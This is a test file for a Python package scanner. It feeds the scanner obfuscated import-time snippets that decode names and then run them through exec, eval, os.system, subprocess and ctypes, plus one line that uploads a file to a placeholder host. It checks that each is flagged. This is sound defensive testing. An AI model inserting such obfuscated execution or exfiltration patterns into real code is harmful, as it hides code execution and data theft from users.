import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

/** A name that is decoded by what nobody can tell beforehand, and one that is picked by it. */
const DECODED = 'd("qwerty")'
const PICKED = 'p'
const BEFORE = [
  'import builtins, ctypes, importlib, importlib.util, os, runpy, socket, subprocess, sys, urllib.request',
  'k = os.stat(__file__).st_size',
  'd = lambda t: "".join(chr(ord(c) ^ k % 7) for c in t)',
  'p = sorted(dir(os), key=lambda n: len(n) % k)[0]',
  '',
].join('\n')

/** Findings of a module that somebody should look at, of those that an import runs. */
async function findings(code: string): Promise<string[]> {
  const reading = readingOf('wheel', { 'a/__init__.py': `${BEFORE}${code}\n` })
  const { findings: found } = await inspect(reading, { digest: sha256('x'), readAs: 'wheel' })
  return found
    .filter(({ severity, moment }) => severity !== 'low' && moment === 'import')
    .map(({ check, severity }) => `${check} ${severity}`)
}

const NAMES: readonly [situation: string, code: string, finding: string][] = [
  ['a member of os', `getattr(os, ${DECODED})("x")`, 'decode-and-execute high'],
  ['one that is kept first', `n = ${DECODED}\nf = getattr(os, n)\nf("x")`, 'decode-and-execute high'],
  ['one of subprocess', `getattr(subprocess, ${DECODED})(["x"])`, 'decode-and-execute high'],
  ['one of socket', `getattr(socket, ${DECODED})(("192.0.2.1", 9))`, 'decode-and-execute high'],
  ['a builtin', `getattr(builtins, ${DECODED})("x")`, 'decode-and-execute high'],
  ['a builtin by its item', `__builtins__[${DECODED}]("x")`, 'decode-and-execute high'],
  ['a member of os by its item', `vars(os)[${DECODED}]("x")`, 'decode-and-execute high'],
  ['the same by its dictionary', `os.__dict__[${DECODED}]("x")`, 'decode-and-execute high'],
  ['a name of this module', `globals()[${DECODED}]("x")`, 'decode-and-execute high'],
  ['a module that is loaded', `sys.modules[${DECODED}].system("x")`, 'decode-and-execute high'],
  ['a module', `__import__(${DECODED}).system("x")`, 'decode-and-execute high'],
  ['a module by importlib', `importlib.import_module(${DECODED})`, 'decode-and-execute high'],
  ['a program by its path', `runpy.run_path(${DECODED})`, 'decode-and-execute high'],
  [
    'a module by its path',
    `s = importlib.util.spec_from_file_location("b", ${DECODED})\ns.loader.exec_module(s)`,
    'decode-and-execute high',
  ],
  ['a library', `ctypes.CDLL(${DECODED})`, 'decode-and-execute high'],
  ['a text', `exec(${DECODED})`, 'decode-and-execute high'],
  ['an expression', `eval(${DECODED})`, 'decode-and-execute high'],
  ['a text in a file', `exec(open(${DECODED}).read())`, 'decode-and-execute high'],
  ['a command', `subprocess.Popen(${DECODED}, shell=True)`, 'decode-and-execute high'],
  ['a command of a shell', `os.system(${DECODED})`, 'decode-and-execute high'],
  [
    'a file that is sent',
    `urllib.request.urlopen("https://keeper.invalid", data=open(${DECODED}, "rb").read())`,
    'secrets-exfiltration critical',
  ],
  ['a member of os that is picked', `getattr(os, ${PICKED})("x")`, 'not-examined medium'],
  [
    'one that is kept, and called in a function',
    `f = getattr(os, ${PICKED})\ndef g():\n    f("x")\ng()`,
    'not-examined medium',
  ],
  ['one of a list of them', `[getattr(os, n) for n in dir(os) if len(n) == k][0]("x")`, 'not-examined medium'],
  ['a picked member by its item', `vars(os)[${PICKED}]("x")`, 'not-examined medium'],
  ['a text of the input', 'exec(sys.stdin.read())', 'not-examined medium'],
]

t.test('a name or a text that reaches what acts, and that cannot be told', async (t) => {
  for (const [situation, code, finding] of NAMES) {
    const found = await findings(code)
    t.ok(found.includes(finding), `${situation}: ${found.join(', ')}`)
  }
})

const PLAIN: Readonly<Record<string, string>> = {
  'members that are looked at': 'for n in dir(os):\n    print(getattr(os, n))',
  'members that are kept': 'FLAGS = [getattr(socket, n) for n in dir(socket) if n.startswith("AF_")]',
  'a member by a name that is known': 'for n in ("getpid", "getcwd"):\n    print(getattr(os, n)())',
  'a member by a name that a caller gives': 'def f(name):\n    return getattr(os, name)()',
  'a member by a part of what a function is given':
    'def f(name):\n    n = name.removeprefix("a.")\n    return getattr(builtins, n)()\nprint(list(map(f, p)))',
  'a member of what a caller gives': 'def f(o, name):\n    return getattr(o, name)()\nf(k, p)',
  'plug-ins in a folder of its own':
    'for n in sorted(os.listdir(os.path.dirname(__file__))):\n    if n.startswith("plugin_"):\n        importlib.import_module("a." + n[:-3])',
  'a module that a caller names': 'def f(name):\n    return importlib.import_module(name)',
  'a module by a path that a caller gives':
    'def f(path):\n    s = importlib.util.spec_from_file_location("b", path)\n    s.loader.exec_module(s)',
  'a library of the system': 'l = ctypes.util.find_library("c")\nl and ctypes.CDLL(l)',
  'names of this module that are made': 'for n in ("A", "B"):\n    globals()[n] = n.lower()',
  'modules that are loaded': 'for n in list(sys.modules):\n    m = sys.modules[n]',
  'a file that is read': 'print(open(p).read())',
}

t.test('names that are looked up, and what a caller says', async (t) => {
  for (const [situation, code] of Object.entries(PLAIN)) t.same(await findings(code), [], situation)
})
